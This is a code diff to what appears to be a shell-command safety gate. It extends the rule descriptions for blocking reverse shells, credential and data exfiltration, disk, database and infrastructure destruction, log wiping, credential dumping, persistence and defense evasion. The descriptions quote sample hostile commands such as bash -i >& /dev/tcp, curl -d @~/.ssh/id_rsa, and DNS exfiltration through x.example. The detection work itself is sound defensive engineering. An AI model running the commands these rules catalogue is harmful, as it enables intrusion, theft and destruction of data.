@@ -46,7 +46,7 @@ from gate.model import Risk, Span
 from gate.paths import supervisor_dirs
 from gate.patterns import Patterns
 from gate.policy import FilesPolicy, ShellPolicy
-from gate.rules import shell_catalogue, shell_effects, shell_env
+from gate.rules import shell_catalogue, shell_context, shell_effects, shell_env
 from gate.rules.base import Context, Rule
 from gate.rules.shell_codeload import CodeLoadingChecks
 from gate.rules.shell_credentials import CredentialChecks
@@ -269,6 +269,7 @@ class Detector(
             self.command(cmd, analysis, add, downloaded, where)
             shell_effects.judge(self, cmd, analysis, where, add, written)
             shell_catalogue.judge(cmd, where, add)
+            shell_context.escalate(self, cmd, analysis, out[mark:], out[:mark], where, add)
             if len(out) > mark and _changes_nothing(cmd):
                 out[mark:] = [f for f in out[mark:] if f.rule not in _DRY_RUN_DROPS]
             elif len(out) > mark and cmd.privileged and _root_info(cmd):
@@ -528,7 +529,9 @@ def _make(rule_id: str, title: str, risk: Risk, doc: str, types: tuple[str, ...]
 RULES: tuple[Rule, ...] = (
     _make("block.shell.recursive-delete-root", "delete of /, home or a system directory", Risk.CRITICAL,
           "Deleting the root, a home directory, a protected path (`[shell] protected_paths`) or everything in "
-          "one, or anything inside the operating system (`system_trees`): rm, rmdir, shred, find -delete."),
+          "one, or anything inside the operating system (`system_trees`): rm, rmdir, shred, find -delete. Also "
+          "find -delete from the root or a system tree (from a home, when nothing filters what it deletes) and "
+          "everything in a personal folder (rm -rf ~/Documents/*, shred of a glob in ~/Pictures)."),
     _make("block.shell.disk-destruction", "disk destruction", Risk.CRITICAL,
           "Formatting, partitioning, wiping or writing raw data to a disk device (mkfs, dd of=/dev/sda, "
           "wipefs -a, fdisk, shred /dev/..., > /dev/sda)."),
@@ -539,20 +542,24 @@ RULES: tuple[Rule, ...] = (
           "code that fetches and execs, mshta/regsvr32 with a URL."),
     _make("block.shell.reverse-shell", "reverse shell", Risk.CRITICAL,
           "A shell wired to a network connection: bash -i >& /dev/tcp/..., nc -e, socat exec:, a shell piped "
-          "through nc, interpreter socket + shell code."),
+          "through nc, interpreter socket + shell code, telnet or openssl piped into a shell, zsh ztcp, socket -p sh."),
     _make("block.shell.credential-exfiltration", "credential exfiltration", Risk.CRITICAL,
           "A secret (`[shell] secret_paths`, the environment, the keychain) sent over the network: curl -d "
-          "@~/.ssh/id_rsa, nc host < .env, cat secret | curl, scp of a key to a remote host."),
+          "@~/.ssh/id_rsa, nc host < .env, cat secret | curl, scp of a key to a remote host, `put` of one in an "
+          "sftp/ftp session."),
     _make("block.shell.database-destruction", "database destruction", Risk.CRITICAL,
           "DROP DATABASE/SCHEMA/TABLE, TRUNCATE, DELETE FROM without WHERE, FLUSHALL, dropDatabase(), dropdb, "
-          "given to a database client (-c/-e/--eval, here-doc) or typed as a command."),
+          "given to a database client (-c/-e/--eval, here-doc) or typed as a command; a database server's data "
+          "directory deleted (rm -rf /var/lib/postgresql/...)."),
     _make("block.shell.anti-forensics", "wiping system logs", Risk.CRITICAL,
           "Truncating, deleting or vacuuming system logs (`[shell] log_paths`, journalctl --vacuum, wevtutil cl)."),
     _make("block.shell.insecure-permissions-root", "world-writable or re-owned system tree", Risk.CRITICAL,
           "chmod 777 (or any world-writable mode) on /, home or a system path; chown -R / chgrp -R on one."),
     _make("block.shell.credential-tamper", "credential tampering", Risk.CRITICAL,
           "Writing account, sudo or SSH key files (`[shell] credential_files`: /etc/passwd, /etc/shadow, "
-          "sudoers, authorized_keys, ld.so.preload) or granting administrator group membership / uid 0."),
+          "sudoers, authorized_keys, ld.so.preload), also through a program's output flag (rustc -o "
+          "authorized_keys), or granting administrator group membership / uid 0 / root's group or home; the sudoers "
+          "file given to another owner; macOS accounts made or passwords reset with a literal password."),
     _make("block.shell.system-file-tamper", "overwriting or moving system files", Risk.CRITICAL,
           "Overwriting, replacing or moving away a file of the operating system (`system_trees`, e.g. "
           "/usr/bin/bash) or a protected path."),
@@ -571,29 +578,48 @@ RULES: tuple[Rule, ...] = (
     _make("block.shell.exfiltration", "data sent off the machine", Risk.CRITICAL,
           "A whole home directory or a key directory archived or copied to a network sink (tar ~ | ssh, "
           "rsync ~/.ssh host:), DNS lookups or URLs built from command output (nslookup $(whoami).x.example, "
-          "curl x.example/?d=$(cat f | base64)), ping -p with command output."),
+          "curl x.example/?d=$(cat f | base64)), ping -p with command output; an account, secret or records file "
+          "(or a file just filled with the environment) uploaded to a public drop site; an account file or a "
+          "personal folder piped to a network sink; a data file mailed to a free-mail address."),
     _make("block.shell.credential-read", "prints a private key or credential file", Risk.CRITICAL,
           "A program that prints or encodes a file (cat, head, base64, xxd, ...) over a private key, cloud "
-          "credential or password store (`[files] credentials`): the same files a file_read blocks. Copying "
-          "or using one (cp, openssl -in, ssh -i) asks or passes."),
+          "credential or password store (`[files] credentials`): the same files a file_read blocks; one copied out "
+          "of the home (cp, esentutl /y, Copy-Item to a temporary, shared or project folder), and every credential "
+          "file a search finds copied or printed (find -exec cp, a loop of cat). A copy kept in the home or using "
+          "one (openssl -in, ssh -i) asks or passes."),
     _make("block.shell.suid-shell", "setuid shell", Risk.CRITICAL,
           "chmod u+s / 4755 (or install -m 4755, setcap cap_setuid) on a shell or interpreter, or on a copy of "
-          "one made in the same command: root for anyone who runs it."),
+          "one made in the same command: root for anyone who runs it. Also a root shell itself: an interactive "
+          "shell, or a program handed a shell to start, run through sudo/doas; a setuid/setgid mode set as root "
+          "or on a file just given to root; root capabilities (cap_setuid, cap_sys_admin) given to any program."),
     _make("block.shell.credential-dump", "dumps password hashes", Risk.CRITICAL,
           "Reading a password database (`[files] credential_dumps`: /etc/shadow, SAM) by any program, or "
-          "running a credential dumper (unshadow, mimikatz, secretsdump, reg save HKLM\\SAM)."),
+          "running a credential dumper or password-attack tool (unshadow, mimikatz, secretsdump, nanodump, "
+          "Rubeus, kerbrute, reg save HKLM\\SAM)."),
+    _make("block.shell.mass-destruction", "destroys infrastructure, backups or every process", Risk.CRITICAL,
+          "Deletes past undoing outside the file system: a production, default or system namespace deleted "
+          "(kubectl delete namespace prod), infrastructure destroyed without a review of the plan (terraform "
+          "destroy -auto-approve), a backup or production bucket emptied, instances terminated or databases "
+          "deleted through a cloud CLI, every process killed at once (kill -9 -1, killall5)."),
     _make("block.shell.sysrq", "kernel emergency keys", Risk.CRITICAL,
           "Writing /proc/sysrq-trigger or enabling sysrq: crashes, reboots or kills everything at once."),
     _make("block.shell.malicious-persistence", "persistence that runs a network shell", Risk.CRITICAL,
           "A crontab entry, shell startup file or other persistence path written with a reverse shell or "
-          "downloaded code (curl | sh, /dev/tcp, nc -e) in it."),
+          "downloaded code (curl | sh, /dev/tcp, nc -e) in it; a Run key, scheduled task, service or cron job "
+          "whose payload sits in a temporary, per-user writable or hidden folder, runs hidden or encoded, or is a "
+          "shell running a command line (sc create ... binPath= \"cmd /c ...\")."),
     _make("block.shell.defense-evasion", "switches a defence off", Risk.CRITICAL,
           "Disabling or flushing the firewall (ufw disable, iptables -F, nft flush ruleset, netsh advfirewall "
           "off), SELinux/AppArmor/Gatekeeper/SIP, auditing or a security service (`[shell] security_services`), "
-          "Defender, kernel protections (ASLR), system recovery and backups (vssadmin delete shadows)."),
+          "Defender, kernel protections (ASLR), system recovery and backups (vssadmin delete shadows); a security "
+          "or logging service stopped by name (AV agents, pf, DNS filters), journald told to store nothing, registry "
+          "values that switch updates, ETW, AMSI or script logging off; a system shell copied under another name "
+          "and run, or a script dressed as a picture and run."),
     _make("block.shell.loader-hook", "loads a library into every program", Risk.CRITICAL,
           "A loader variable (LD_PRELOAD, LD_AUDIT, DYLD_INSERT_LIBRARIES, ...) set in the action's env, as a "
-          "`NAME=value cmd` prefix or by export: the named library runs inside every program that starts."),
+          "`NAME=value cmd` prefix or by export: the named library runs inside every program that starts. Also a "
+          "library loaded from a temporary, hidden or bare relative path (ctypes, dlopen, openssl -engine ./x.so, "
+          "ssh-keygen -D /tmp/x.dylib)."),
     _make("confirm.shell.env-hook", "environment that makes programs run code", Risk.HIGH,
           "A variable that makes programs run or load code: start-up files (BASH_ENV, ENV, PYTHONSTARTUP), module "
           "or library paths into writable directories (PYTHONPATH=/tmp), option variables that load code "
@@ -601,7 +627,9 @@ RULES: tuple[Rule, ...] = (
           "PAGER or EDITOR with shell syntax) and a PATH whose first directory is writable."),
     _make("block.shell.remote-access", "opens the machine to remote control", Risk.CRITICAL,
           "Switching on remote login, remote events, screen sharing, guest or anonymous file sharing, or remote "
-          "desktop (systemsetup -setremotelogin on, sysadminctl -smbGuestAccess on, fDenyTSConnections 0)."),
+          "desktop (systemsetup -setremotelogin on, sysadminctl -smbGuestAccess on, fDenyTSConnections 0); "
+          "lateral-movement kits (psexec.py, wmiexec, evil-winrm) and remote execution given a password on the "
+          "command line or run as SYSTEM (PsExec -u -p / -s, plink -pw, net use \\\\host\\C$ PASSWORD /user:)."),
     _make("block.shell.miner", "mines cryptocurrency", Risk.CRITICAL,
           "A cryptocurrency miner, known by its pool address (stratum+tcp://, well-known pools) or its tuning "
           "arguments (--donate-level, --algo rx/0): this machine's power spent for someone else."),
@@ -617,7 +645,8 @@ RULES: tuple[Rule, ...] = (
           "a way out of whatever wrapped it; what it will run is unknown."),
     _make("confirm.shell.recon", "looks for ways to gain privileges", Risk.MEDIUM,
           "Searches for setuid/setgid or world-writable files (find -perm -4000) and for programs with "
-          "capabilities (getcap -r): the first step of a privilege escalation."),
+          "capabilities (getcap -r): the first step of a privilege escalation; domain-mapping and privilege-hunting "
+          "kits (ADRecon, SharpHound, linpeas), directory listings of Active Directory, packet capture."),
     _make("confirm.shell.credential-search", "searches for credentials", Risk.HIGH,
           "Recursive searches for passwords, secrets, API keys or private keys (grep -r password, rg "
           "'BEGIN.*PRIVATE'), and searches for key or credential files (find -name id_rsa, locate .pem)."),
